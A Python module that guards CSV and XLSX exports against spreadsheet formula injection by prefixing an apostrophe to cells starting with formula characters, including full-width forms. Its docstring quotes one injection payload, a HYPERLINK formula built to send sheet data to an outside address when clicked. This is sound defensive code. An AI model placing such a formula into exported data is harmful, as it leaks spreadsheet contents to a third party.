"""Every cell of every CSV or XLSX download goes through :func:`safe_cell`.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one) as a formula: a goal named ``=HYPERLINK("http://…"&A3)``
would send the sheet's data away when an administrator clicks it (CSV/formula
injection). Such text gets a leading apostrophe, which spreadsheets show as text.
Numbers and dates stay numbers and dates.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from typing import Any

# The full-width forms are read as formulas by some spreadsheet programs too.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell: text that could run as a formula is made inert."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cell_text(value: Any) -> str:
    """A safe cell as CSV text: dates in ISO form, nothing for None."""
    value = safe_cell(value)
    if value is None:
        return ""
    if isinstance(value, dt.date | dt.datetime):
        return value.isoformat()
    return str(value)


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def csv_bytes(rows: Iterable[Iterable[Any]], lineterminator: str = "\r\n") -> bytes:
    """UTF-8 CSV of ``rows``, every cell through :func:`safe_cell`."""
    return csv_text(rows, lineterminator).encode("utf-8")


def csv_text(rows: Iterable[Iterable[Any]], lineterminator: str = "\r\n") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerows([cell_text(value) for value in row] for row in rows)
    return buffer.getvalue()
